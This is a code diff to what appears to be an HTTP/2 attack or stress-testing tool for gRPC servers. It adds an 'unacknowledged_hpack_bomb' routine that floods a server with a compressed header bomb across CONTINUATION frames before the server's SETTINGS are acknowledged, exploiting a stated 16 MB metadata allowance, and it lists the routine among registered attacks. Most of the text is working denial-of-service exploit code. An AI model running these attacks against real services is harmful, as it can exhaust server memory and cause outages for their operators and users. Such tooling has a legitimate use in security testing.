@@ -22,13 +22,24 @@ async def hpack_bomb(aim: Aim) -> Outcomes:
 
 
 async def hpack_bomb_in_parts(aim: Aim) -> Outcomes:
-    """The same in 20 frames."""
+    """The same in 20 frames: a block of 300 KB."""
+    return await _bombs_in_parts(aim, acknowledges=True)
+
+
+async def unacknowledged_hpack_bomb(aim: Aim) -> Outcomes:
+    """The same before the server's SETTINGS are acknowledged: until then, gRPC accepts 16 MB of metadata."""
+    return await _bombs_in_parts(aim, acknowledges=False)
+
+
+async def _bombs_in_parts(aim: Aim, *, acknowledges: bool) -> Outcomes:
     outcomes: Outcomes = Counter()
     more = b"".join(frame(CONTINUATION, 0, 1, hpack.reference(NEWEST) * FRAME_BYTES) for _ in range(20))
     add = hpack.block(head(aim.service.main)) + hpack.literal(b"bomb", b"a" * 3000, indexed=True)
     for _ in range(aim.times(10)):
         async with connected(aim.target) as connection:
-            await connection.greet()  # no acknowledgement: gRPC does not enforce the limit of metadata
+            await connection.greet()
+            if acknowledges:
+                await connection.acknowledge()
             await connection.send(frame(HEADERS, 0, 1, add) + more + frame(CONTINUATION, END_HEADERS, 1))
             outcomes[await connection.fate(1)] += 1
     return outcomes
@@ -104,5 +115,13 @@ async def _asked(aim: Aim, more: bytes) -> str:
 
 ATTACKS: dict[str, Attack] = {
     attack.__name__: attack
-    for attack in (hpack_bomb, hpack_bomb_in_parts, many_headers, table_churn, large_metadata, broken_blocks)
+    for attack in (
+        hpack_bomb,
+        hpack_bomb_in_parts,
+        unacknowledged_hpack_bomb,
+        many_headers,
+        table_churn,
+        large_metadata,
+        broken_blocks,
+    )
 }
